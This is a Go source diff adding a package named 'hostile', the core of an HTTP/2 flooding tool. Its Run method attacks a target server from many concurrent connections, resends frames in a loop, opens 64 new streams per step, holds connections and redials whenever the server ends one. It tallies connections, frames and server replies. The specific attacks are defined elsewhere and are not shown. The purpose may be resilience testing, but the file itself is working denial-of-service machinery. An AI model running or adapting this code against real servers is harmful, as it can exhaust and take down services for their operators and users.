@@ -1,0 +1,160 @@
+package hostile
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"slices"
+	"sync"
+
+	"golang.org/x/net/http2"
+)
+
+// errHold is what a step returns when all is sent that the attack has to send, and
+// the connection is to be held.
+var errHold = errors.New("hold the connection")
+
+// Attack is one way to harm a server.
+type Attack struct {
+	Name string
+	// manners of its connections.
+	manners Manners
+	// begin sends what comes first and returns what is to be sent again and again.
+	begin func(*Conn) (step func() error, err error)
+}
+
+// Target is what an attack knows of the server.
+type Target struct {
+	// Addr is its host:port.
+	Addr string
+	// Domain, Key and Value make requests that the server answers.
+	Domain, Key, Value string
+}
+
+// Outcome is what came of an attack.
+type Outcome struct {
+	// Connections were opened, of which the server ended Ended.
+	Connections, Ended int
+	// Frames were sent on all of them.
+	Frames int64
+
+	Replies
+}
+
+// Find returns the attack of that name, or an error that names all.
+func Find(name string, t Target) (Attack, error) {
+	all := All(t)
+	i := slices.IndexFunc(all, func(a Attack) bool { return a.Name == name })
+	if i < 0 {
+		names := make([]string, 0, len(all))
+		for _, a := range all {
+			names = append(names, a.Name)
+		}
+		return Attack{}, fmt.Errorf("no attack %q: there are %q", name, names)
+	}
+	return all[i], nil
+}
+
+// Run attacks from so many connections at once until ctx ends, each begun anew when the
+// server has ended it. It returns an error only if one is not accepted.
+func (a Attack) Run(ctx context.Context, t Target, connections int) (Outcome, error) {
+	var (
+		mu    sync.Mutex
+		all   Outcome
+		errs  []error
+		group sync.WaitGroup
+	)
+	all.Resets, all.Statuses = map[string]int{}, map[string]int{}
+	for range connections {
+		group.Go(func() {
+			for ctx.Err() == nil {
+				c, ended, err := a.connection(ctx, t)
+				mu.Lock()
+				if err != nil {
+					// At the end a dial may time out a moment before ctx says so.
+					if timeout, ok := errors.AsType[net.Error](err); !ok || !timeout.Timeout() {
+						errs = append(errs, err)
+					}
+					mu.Unlock()
+					return
+				}
+				all.Connections++
+				if ended {
+					all.Ended++
+				}
+				all.Frames += c.Sent()
+				all.add(c.Replies())
+				mu.Unlock()
+			}
+		})
+	}
+	group.Wait()
+	return all, errors.Join(errs...)
+}
+
+// connection attacks from one connection and reports whether the server ended it.
+func (a Attack) connection(ctx context.Context, t Target) (c *Conn, ended bool, err error) {
+	c, err = Dial(ctx, t.Addr, a.manners)
+	if err != nil {
+		return nil, false, err
+	}
+	defer func() {
+		_ = c.Close() // it may have ended
+		if !a.manners.Deaf {
+			<-c.Ended()
+		}
+	}()
+	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // a write may hang
+	step, err := a.begin(c)
+	for err == nil && ctx.Err() == nil {
+		err = step()
+	}
+	if errors.Is(err, errHold) {
+		err = c.Flush()
+	}
+	if ctx.Err() != nil {
+		return c, false, nil
+	}
+	switch {
+	case a.manners.Deaf && err != nil:
+		return c, true, nil // it does not hear why
+	case a.manners.Deaf:
+		<-ctx.Done()
+		return c, false, nil
+	}
+	select {
+	case <-c.Ended(): // so that what the server said last is in
+		return c, ctx.Err() == nil, nil
+	case <-ctx.Done():
+		return c, false, nil
+	}
+}
+
+// again returns a step that sends the same bytes, which hold so many frames.
+func (c *Conn) again(frames int, bytes []byte) func() error {
+	return func() error { return c.Send(frames, bytes) }
+}
+
+// calls returns a step that sends 64 new streams, each of what add adds for it.
+func (c *Conn) calls(frames int, add func(b []byte, stream uint32) []byte) func() error {
+	stream := uint32(1)
+	var b []byte
+	return func() error {
+		b = b[:0]
+		for range 64 {
+			b = add(b, stream)
+			stream += 2
+		}
+		return c.Send(64*frames, b)
+	}
+}
+
+// times repeats a frame.
+func times(n int, frame []byte) []byte { return slices.Concat(slices.Repeat([][]byte{frame}, n)...) }
+
+// appendCall adds a whole call.
+func appendCall(b []byte, stream uint32, headers, message []byte) []byte {
+	b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
+	return appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, message)
+}
